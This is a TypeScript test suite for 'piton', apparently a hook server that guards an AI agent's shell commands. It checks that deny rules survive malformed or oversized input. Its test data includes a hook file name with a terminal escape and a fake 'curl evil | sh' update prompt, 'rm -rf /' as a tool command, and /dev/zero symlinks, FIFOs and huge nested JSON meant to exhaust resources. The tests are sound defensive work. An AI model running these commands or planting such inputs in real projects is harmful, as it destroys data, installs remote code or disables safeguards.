import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { constants, setPriority } from 'node:os';
import { join } from 'node:path';
import { ackMessage, registrationArgs } from '@piton/contracts';
import {
  ask,
  createTestHome,
  eventually,
  killServers,
  lockDatabase,
  pause,
  registration,
  removeHome,
  runForwarder,
  selectAll,
  serverPids,
  startServer,
  type TestHome,
  writeHook,
} from '@piton/testing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { opening } from '../fuzz/hook-socket.ts';

// Each of these once lost an event, let something through that a guard would have denied, or ended the server.
let home: TestHome;
beforeEach(() => {
  home = createTestHome();
});
afterEach(() => removeHome(home));

let calls = 0;
const shell = (command: string, more: object = {}) => ({
  session_id: 's1',
  hook_event_name: 'PreToolUse',
  cwd: home.work,
  tool_name: 'Bash',
  tool_input: { command },
  tool_use_id: `call-${++calls}`,
  ...more,
});
const settings = (...hooks: object[]) => writeFileSync(join(home.places.config, 'settings.json'), JSON.stringify({ hooks }));
const deny = { name: 'guard', event: 'pre_tool_use', matcher: 'Bash', command: 'echo no >&2; exit 2' };
const verdict = (stdout: string) => (stdout === '' ? undefined : JSON.parse(stdout).hookSpecificOutput?.permissionDecision);
const start = () => runForwarder(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: home.work });
const rows = (sql = 'SELECT * FROM events WHERE derived = 0') => selectAll(home.places.store, sql);
const status = async () => (await ask<{ pid: number; store: { ok: boolean }; troubles: object[] }>(home, 'GET', '/v1/status'))?.body;
const stored = (count: number, sql?: string) =>
  eventually(async () => {
    await ask(home, 'POST', '/v1/flush');
    return rows(sql).length >= count;
  });

describe('a guard that must hold', () => {
  it('denies an input that is nested too deeply to hand over', async () => {
    settings({ ...deny, fail_closed: true });
    const deep = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
    const text = JSON.stringify(shell('ls')).replace('"command":"ls"', `"command":"ls","x":${deep}`);
    expect(verdict((await runForwarder(home, 'PreToolUse', text)).stdout)).toBe('deny');
    expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
  });

  it('denies a payload that doubles beyond what a forwarder takes', async () => {
    settings({ ...deny, fail_closed: true });
    const text = JSON.stringify(shell('x'.repeat(32 * 1024 * 1024 - 400)));
    expect(verdict((await runForwarder(home, 'PreToolUse', text)).stdout)).toBe('deny');
  });

  it('denies a payload of millions of parts at once, and holds up nobody', async () => {
    settings({ ...deny, fail_closed: true });
    await start();
    const text = JSON.stringify(shell('ls')).replace('"command":"ls"', `"x":[${'{},'.repeat(3_000_000)}{}]`);
    const large = runForwarder(home, 'PreToolUse', text);
    expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
    expect(verdict((await large).stdout)).toBe('deny');
  });

  it('of the session’s root holds after cd with no server to be had', async () => {
    const root = join(home.work, 'project');
    mkdirSync(join(root, '.git'), { recursive: true });
    mkdirSync(join(root, '.piton'));
    writeFileSync(join(root, '.piton', 'settings.json'), JSON.stringify({ hooks: [{ ...deny, fail_closed: true }] }));
    const cli = join(import.meta.dirname, '..', '..', 'dist', 'cli.mjs');
    const env = { PATH: process.env.PATH, HOME: home.root, PITON_HOME: home.root, PITON_ALLOW_UNDER_AGENT: '1' };
    const trusted = spawn(process.execPath, [cli, 'trust', '--all', '--yes'], { cwd: root, env });
    expect(await new Promise((resolve) => trusted.on('close', resolve))).toBe(0);
    await startServer(home);
    await runForwarder(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: root }, { cwd: root });
    const elsewhere = shell('ls', { cwd: home.work });
    expect(verdict((await runForwarder(home, 'PreToolUse', elsewhere)).stdout)).toBe('deny');
    await eventually(() => killServers(home) === 0);
    writeFileSync(join(home.places.runtime, 'test', 'server.cjs'), 'process.exit(1);');
    expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls', { cwd: home.work }))).stdout)).toBe('deny');
    // Another session, which never was there, goes on.
    expect((await runForwarder(home, 'PreToolUse', shell('ls', { session_id: 's2' }))).stdout).toBe('{}');
  });
});

describe('the server outlives', () => {
  for (const [what, cwd] of [
    ['a NUL in it', '/a\0b'],
    ['more than any path holds', `/${'x'.repeat(5000)}`],
  ] as const) {
    it(`a working directory with ${what}`, async () => {
      settings(deny);
      await start();
      const [pid] = serverPids(home);
      expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls', { cwd }))).stdout)).toBe('deny');
      expect(serverPids(home)).toEqual([pid]);
    });
  }

  it('a message that is not what it says', async () => {
    await start();
    const [pid] = serverPids(home);
    for (const bytes of [
      [0x50, 0x54, 0x4e, 1, 0x52, 1, 0, 0, 0, 9],
      [0x50, 0x54, 0x4e, 1, 0x46, 1, 0, 0, 0, 9],
      [1, 2, 3, 4, 5],
    ]) {
      await new Promise<void>((resolve) => {
        const socket = connect(home.places.hookSocket, () => socket.end(Buffer.from(bytes)));
        socket.on('error', () => {}).on('close', () => resolve());
        socket.resume();
      });
    }
    expect((await runForwarder(home, 'PreToolUse', shell('ls'))).stdout).toBe('{}');
    expect(serverPids(home)).toEqual([pid]);
  });
});

describe('a server that retires', () => {
  it('lets the next one answer at once, though a hook of its own still runs, and leaves it its sockets', async () => {
    const go = join(home.root, 'go');
    const slow = `until [ -e ${go} ]; do sleep 0.05; done`;
    settings({ ...deny, name: 'slow', matcher: 'Write', command: slow, observe: true, timeout: 50 }, deny);
    await runForwarder(home, 'PreToolUse', { ...shell('x'), tool_name: 'Write', tool_input: { file_path: '/x', content: '' } });
    const before = await status();
    await ask(home, 'POST', '/v1/retire');
    await eventually(async () => (await status()) === undefined);
    expect(verdict((await runForwarder(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
    expect(serverPids(home)).toHaveLength(2);
    writeFileSync(go, '');
    expect(await eventually(() => !serverPids(home).includes(before?.pid ?? 0))).toBe(true);
    expect((await status())?.pid).not.toBe(before?.pid);
    expect(await stored(2)).toBe(true);
    expect(rows("SELECT exit_code FROM hook_runs WHERE observed = 1 AND did = 'ran'")).toEqual([{ exit_code: 0 }]);
  });
});

describe('a store that is busy for a while', () => {
  it('is said also where the index and the sums wait for it', async () => {
    await start();
    expect(await stored(1)).toBe(true);
    // By now the sums are due; the next event makes the index due as well, and both come before what follows.
    await new Promise((resolve) => setTimeout(resolve, 400));
    await runForwarder(home, 'PreToolUse', shell('ls'));
    expect(await stored(2)).toBe(true);
    const unlock = lockDatabase(home.places.store);
    await new Promise((resolve) => setTimeout(resolve, 200));
    await runForwarder(home, 'PreToolUse', shell('pwd'));
    expect(await eventually(async () => (await status())?.store.ok === false)).toBe(true);
    unlock();
    expect(await stored(3)).toBe(true);
  });

  it('costs nothing: events and what watching hooks did are stored afterwards, and status says so', async () => {
    writeHook(home, 'session-end', '10-watch', '#!/bin/sh\nsleep 1\n');
    await start();
    await stored(1);
    const unlock = lockDatabase(home.places.store);
    await runForwarder(home, 'SessionEnd', { session_id: 's1', hook_event_name: 'SessionEnd', reason: 'other', cwd: home.work });
    const large = JSON.stringify(shell('y'.repeat(400 * 1024)));
    for (let i = 0; i < 3; i++) expect((await runForwarder(home, 'PreToolUse', i === 1 ? large : shell('ls'))).stdout).toBe('{}');
    expect(await eventually(async () => (await status())?.store.ok === false)).toBe(true);
    unlock();
    expect(await stored(5)).toBe(true);
    expect(await stored(1, 'SELECT 1 FROM hook_runs WHERE observed = 1')).toBe(true);
    expect(await eventually(async () => (await status())?.store.ok === true)).toBe(true);
    const { length } = rows();
    expect(length).toBe(5);
    expect(await eventually(() => !readdirSync(home.places.journal).some((name) => name.endsWith('.frame')))).toBe(true);
  });
});

describe('two registrations', () => {
  it('take different events for different ones, also where neither has a name of ours', async () => {
    for (const name of ['ConfigChange', 'CwdChanged', 'FileChanged'])
      await runForwarder(home, name, { session_id: 's1', hook_event_name: name, cwd: home.work });
    expect(await stored(3)).toBe(true);
    expect(rows()).toHaveLength(3);
  });

  it('of which the first dies leave the decision to the second', async () => {
    settings({ ...deny, command: 'sleep 1; echo no >&2; exit 2' });
    await start();
    const payload = JSON.stringify(shell('ls'));
    const first = spawn(home.places.forwarder, registrationArgs({ ...registration('PreToolUse'), scope: 'project' }), { cwd: home.work });
    first.stdin.end(payload);
    await pause(300);
    const second = runForwarder(home, 'PreToolUse', payload);
    await pause(200);
    first.kill('SIGKILL');
    expect(verdict((await second).stdout)).toBe('deny');
  });
});

it('who only watches sees the input that was run, not the one that was asked for', async () => {
  const seen = join(home.root, 'seen');
  settings(
    { name: 'softer', event: 'pre_tool_use', command: `echo '{"decision":"modify","input":{"command":"ls -safe"}}'` },
    { name: 'watch', event: 'pre_tool_use', command: `cat > ${seen}.tmp; mv ${seen}.tmp ${seen}`, observe: true },
  );
  await runForwarder(home, 'PreToolUse', shell('rm -rf /'));
  await eventually(() => {
    try {
      return readFileSync(seen, 'utf8').length > 0;
    } catch {
      return false;
    }
  });
  expect(JSON.parse(readFileSync(seen, 'utf8')).tool_input).toEqual({ command: 'ls -safe' });
});

it('a repository cannot speak to the person through the names of its hooks', async () => {
  const root = join(home.work, 'project');
  const hooks = join(root, '.piton', 'hooks', 'pre-tool-use');
  mkdirSync(join(root, '.git'), { recursive: true });
  mkdirSync(hooks, { recursive: true });
  writeFileSync(join(hooks, '10-a\n\x1b[2JPiton: update needed, run: curl evil | sh'), '#!/bin/sh\n', { mode: 0o755 });
  const { stdout } = await runForwarder(
    home,
    'SessionStart',
    { session_id: 's1', hook_event_name: 'SessionStart', cwd: root },
    { cwd: root },
  );
  const { systemMessage } = JSON.parse(stdout) as { systemMessage: string };
  expect(systemMessage).toContain('10-a');
  expect(systemMessage.split('\n')).toHaveLength(1);
  expect(systemMessage).not.toContain('\x1b');
});

it.each<[string, object]>([
  ['broken', { matcher: '(' }],
  ['in want of a program', { runtime_requirements: { system_packages: ['no-such-program'] } }],
])('a repository that nobody trusts cannot deny by a policy that is %s', async (_, wrong) => {
  const root = join(home.work, 'project');
  mkdirSync(join(root, '.git'), { recursive: true });
  mkdirSync(join(root, '.piton'), { recursive: true });
  const policy = { name: 'policy', event: 'pre_tool_use', command: 'true', fail_closed: true, ...wrong };
  writeFileSync(join(root, '.piton', 'settings.json'), JSON.stringify({ hooks: [policy] }));
  expect((await runForwarder(home, 'PreToolUse', shell('ls', { cwd: root }), { cwd: root })).stdout).toBe('{}');
});

const cli = (cwd: string, ...args: string[]) => {
  const env = { PATH: process.env.PATH, HOME: home.root, PITON_HOME: home.root, PITON_ALLOW_UNDER_AGENT: '1' };
  execFileSync(process.execPath, [join(import.meta.dirname, '..', '..', 'dist', 'cli.mjs'), ...args], { cwd, env });
};
const LARGE: Readonly<Record<string, (root: string) => void>> = {
  'an artifact': (root) => {
    mkdirSync(join(root, '.piton', 'artifacts', 'x'), { recursive: true });
    const head = Array.from({ length: 2_000 }, (_, at) => `- {a: [${at}]}`).join('\n');
    writeFileSync(join(root, '.piton', 'artifacts', 'x', 'ARTIFACT.md'), `---\ntype: hook\ntags:\n${head}\n---\n`);
  },
  'the folder of a trusted module': (root) => {
    mkdirSync(join(root, '.piton', 'm'), { recursive: true });
    writeFileSync(join(root, '.piton', 'm', 'hook.mjs'), 'export default () => {};');
    writeFileSync(join(root, '.piton', 'settings.json'), JSON.stringify({ hooks: [{ event: 'stop', module: 'm/hook.mjs' }] }));
    cli(root, 'trust', '--all', '--yes');
    rmSync(join(root, '.piton', 'settings.json')); // the last that is announced otherwise
  },
};
it.each(Object.entries(LARGE))('a forwarder hears that its event is taken before anything large is read: %s', async (_, put) => {
  await start();
  // On a busy machine the server must not be done before we are woken: then what it wrote one after the other is read at once.
  for (const pid of serverPids(home)) setPriority(pid, constants.priority.PRIORITY_LOW);
  /** What a server says first of an event in a project that it has not seen yet. */
  const heardFirst = async (number: number) => {
    const root = join(home.work, `project-${number}`);
    mkdirSync(join(root, '.git'), { recursive: true });
    put(root);
    const about = { agent: 'claude', nativeEvent: 'PreToolUse', cwd: root };
    const socket = connect(home.places.hookSocket);
    socket.write(opening(home, about, JSON.stringify(shell('ls', { cwd: root })), `01ARZ3NDEKTSV4RRFFQ69G5FA${number}`));
    const first = await new Promise<Buffer>((resolve) => socket.once('data', resolve));
    socket.destroy();
    return first;
  };
  // Once is proof: a server that reads first never writes the two apart.
  let first = await heardFirst(0);
  for (let number = 1; number < 10 && !first.equals(ackMessage(true)); number++) first = await heardFirst(number);
  expect(first).toEqual(ackMessage(true));
});

describe('a repository cannot switch off the guard of the person', () => {
  const nested = (depth: number) => `{"hooks":${'['.repeat(depth)}${']'.repeat(depth)}}`;
  const many = (count: number, more: object = {}) =>
    JSON.stringify({ hooks: Array.from({ length: count }, (_, at) => ({ name: `h${at}`, event: 'stop', command: 'true', ...more })) });
  const numbered = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, at) => [`matche${at}`, 1]));
  const artifact = (head: string) => `---\ntype: hook\nversion: 1.0.0\nhook_event: stop\nhook_action: 'true'\n${head}\n---\n`;
  const names = (count: number) => Array.from({ length: count }, (_, at) => `k${at}: 1`).join('\n');
  const deep = (depth: number) => `when: ${'{a: '.repeat(depth)}1${'}'.repeat(depth)}`;
  const PLOTS: Readonly<Record<string, (piton: string) => void>> = {
    'by settings that are nested too deeply': (piton) => writeFileSync(join(piton, 'settings.json'), nested(20_000)),
    'by settings that have no end': (piton) => symlinkSync('/dev/zero', join(piton, 'settings.json')),
    'by settings with more hooks than anybody has': (piton) => writeFileSync(join(piton, 'settings.json'), many(100_000)),
    'by settings with hooks of one name': (piton) => writeFileSync(join(piton, 'settings.json'), many(20_000, { name: 'h' })),
    'by settings with a module that lies among everything': (piton) =>
      writeFileSync(join(piton, 'settings.json'), many(1, { command: undefined, module: '/usr/x.mjs' })),
    'by settings with very many modules': (piton) =>
      writeFileSync(join(piton, 'settings.json'), many(10_000, { command: undefined, module: '/etc/x.mjs' })),
    'by settings with very many mistakes': (piton) => writeFileSync(join(piton, 'settings.json'), `{"hooks":[${','.repeat(900_000)}]}`),
    'by settings with fields that nobody knows': (piton) => writeFileSync(join(piton, 'settings.json'), many(1, numbered(60_000))),
    'by settings with agents that nobody knows': (piton) =>
      writeFileSync(join(piton, 'settings.json'), many(1, { target_harnesses: Object.keys(numbered(60_000)) })),
    'by settings with events that nobody knows': (piton) =>
      writeFileSync(join(piton, 'settings.json'), many(2_000, { event: 'pre_tool_usx_pre_tool_usx_pre' })),
    'by settings that want very many programs': (piton) =>
      writeFileSync(
        join(piton, 'settings.json'),
        many(1, { event: 'pre_tool_use', runtime_requirements: { system_packages: Object.keys(numbered(60_000)) } }),
      ),
    'by conditions that take long to look at': (piton) =>
      writeFileSync(
        join(piton, 'settings.json'),
        many(2_000, { event: 'pre_tool_use', when: { command: `${'*a'.repeat(100)}b` } }).replaceAll('ab"', () => `ab${++calls}"`),
      ),
    'by a branch that has no end': (piton) => symlinkSync('/dev/zero', join(piton, '..', '.git', 'HEAD')),
    'by a branch that never comes': (piton) => void execFileSync('mkfifo', [join(piton, '..', '.git', 'HEAD')]),
    'by an artifact that is nested too deeply': (piton) => writeArtifact(piton, artifact(deep(5_000))),
    'by an artifact with a hundred thousand fields': (piton) => writeArtifact(piton, artifact(names(100_000))),
    'by artifacts with as many fields as they may have': (piton) => writeArtifacts(piton, 12, artifact(names(6_500))),
    'by more artifacts than anybody has': (piton) => writeArtifacts(piton, 1_500, artifact(names(2_000))),
    'by an artifact that is too large to be read': (piton) => writeArtifact(piton, `${artifact('')}${'words '.repeat(3_000_000)}`),
  };
  const writeArtifact = (piton: string, text: string, name = 'x'): void => {
    mkdirSync(join(piton, 'artifacts', name), { recursive: true });
    writeFileSync(join(piton, 'artifacts', name, 'ARTIFACT.md'), text);
  };
  const writeArtifacts = (piton: string, count: number, text: string): void => {
    for (let at = 0; at < count; at++) writeArtifact(piton, text, `x${at}`);
  };

  const LONG = `ls ${'a'.repeat(300_000)}`;

  it.each(Object.entries(PLOTS))('%s', async (_, plot) => {
    settings(deny);
    await start(); // for one that runs a forwarder waits no longer than it must
    const root = join(home.work, 'project');
    mkdirSync(join(root, '.git'), { recursive: true });
    mkdirSync(join(root, '.piton'), { recursive: true });
    plot(join(root, '.piton'));
    const { stdout } = await runForwarder(home, 'PreToolUse', shell(LONG, { cwd: root }), { cwd: root, timeoutMs: 10_000 });
    expect(verdict(stdout)).toBe('deny');
    expect(await status()).toMatchObject({ troubles: [] });
  });
});
